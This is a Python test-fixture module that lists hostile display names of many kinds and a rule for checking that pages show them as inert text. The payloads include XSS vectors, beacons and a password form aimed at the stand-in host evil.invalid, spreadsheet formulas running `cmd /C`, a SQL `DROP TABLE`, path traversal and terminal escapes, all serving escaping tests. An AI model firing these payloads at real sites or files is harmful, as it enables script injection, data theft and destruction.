"""Names that want to be more than text, one of each kind, and the rule by which a page shows them as text.

Every name carries a word of its own (`q07x`) within what would act. Where the word is on the screen, the characters
beside it must be there too: a page that took them for markup would have eaten them.
"""

from __future__ import annotations

import unicodedata

#: Nothing on any page may ask for this host; whatever is asked of it is a beacon.
HOST = "evil.invalid"
_FIRE = "window.pwned=1"

#: kind -> what it looks like, `@` standing for the word.
_KINDS = {
    "script": f"<script>{_FIRE}</script><b>@</b>",
    "img": f'<img src=x onerror="{_FIRE}">[@]',
    "svg": f"<svg onload={_FIRE}>(@)</svg>",
    "javascript_link": f"[(@)](javascript:{_FIRE})",
    "anchor": f'<a href="javascript:{_FIRE}">@</a>',
    "form": f'<form action="http://{HOST}/form"><input name=pw>@</form>',
    "style": f"<style>*{{background:url(http://{HOST}/css)}}</style><i>@</i>",
    "style_attribute": f'<p style="position:fixed;inset:0;background:url(//{HOST}/a)">@</p>',
    "iframe": f'<iframe src="http://{HOST}/frame"></iframe><u>@</u>',
    "refresh": f'<meta http-equiv="refresh" content="0;url=http://{HOST}/meta"><s>@</s>',
    "base": f'<base href="http://{HOST}/"><link rel=stylesheet href=//{HOST}/l.css><q>@</q>',
    "event": f'" autofocus onfocus="{_FIRE}" x="@"',
    "details": f"<details open ontoggle={_FIRE}>@</details>",
    "markdown_image": f"![@](http://{HOST}/beacon.png)",
    "markdown_link": f"[@](http://{HOST}/link)",
    "markdown_bold": "**@** __@__ ~~@~~",
    "markdown_code": "`@`",
    "markdown_block": "# @",
    "markdown_auto": f"<http://{HOST}/auto> _@_",
    "latex": "$@^2$ $$\\frac{@}{2}$$",
    "icon": ":material/delete: :@: :smile:",
    "colour": ":red[@] :blue-background[@] :small[@]",
    "formula": f'=HYPERLINK("http://{HOST}/x","@")',
    "formula_plus": "+cmd|' /C @'!A0",
    "formula_minus": "-2+3+cmd|' /C @'!A0",
    "formula_at": "@SUM(@)",
    "formula_tab": "\t=1+@",
    "formula_return": "\r=1+@",
    "formula_wide": "\uff1d1\uff0b@",
    "braces": "{{@}} {0} {name!r} {@}",
    "percent": "%s %d %(x)s %n %@",
    "plotly": f'<b>@</b> <a href="http://{HOST}/p">x</a><br>%{{x}} %{{customdata[0]}}<extra></extra>',
    "bidi": "\u202e(@)\u2066 \u200f",
    "invisible": "\u200b(@)\u200d\ufeff",
    "control": "\x1b[31m(@)\x07\x08\x7f\x9b",
    "nul": "a\x00(@)\nb\n\n- c",
    "separators": "\u2028(@)\u2029",
    "surrogate": "\ud800(@)\udfff",
    "long": "<@>" + "y" * 10_000,
    "wide": "<@>" + "\u0301" * 200,
    "sql": "'; DROP TABLE span; -- \"@\"",
    "string": f"</script><script>{_FIRE}</script>'\"`\\${{{_FIRE}}}(@)",
    "entities": "&lt;@&gt; &#60;img src=x onerror=1&#62; &amp;@;",
    "data": f"data:text/html,<script>{_FIRE}</script>(@)",
    "alike": "\u0430\u0435\u03bf\uff1cscript\uff1e(@)\uff1c/script\uff1e",
    "path": "../../../etc/(@)/..\\..\\C:\\NUL",
    "json": '"},{"ph":"X","name":"(@)"}]',
    "terminal": "\x1b]8;;http://evil.invalid\x07(@)\x1b]8;;\x07",
}


def word(kind: str) -> str:
    """What only this kind of name holds."""
    return f"q{list(_KINDS).index(kind):02d}x"


NAMES: dict[str, str] = {
    kind: (text[0] + text[1:].replace("@", word(kind))) if text.startswith("@") else text.replace("@", word(kind))
    for kind, text in _KINDS.items()
}

#: What a file system takes as one part of a path: no slash, no NUL, no line end, and not too long.
PARTS: dict[str, str] = {
    kind: text.replace("/", "\u2215")
    for kind, text in NAMES.items()
    if kind not in ("long", "surrogate") and not set(text) & set("\x00\n\r\t") and len(text.encode()) < 180
}


def shown(text: str) -> str:
    """A name as text for the eye: worked out here, so that the pages are held to it and not to themselves."""
    return "".join(
        " " if char in "\t\n\r" else "\ufffd" if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")
        else char
        for char in text
    )  # fmt: skip


def _beside(text: str, name: str) -> frozenset[tuple[str, str]]:
    parts = text.split(name)
    return frozenset((before[-2:], after[:2]) for before, after in zip(parts, parts[1:], strict=False))


#: word -> the two characters before and behind it as they must be on the screen, wherever it stands in its name.
BESIDE: dict[str, frozenset[tuple[str, str]]] = {
    word(kind): _beside(shown(text), word(kind)) for kind, text in NAMES.items()
}
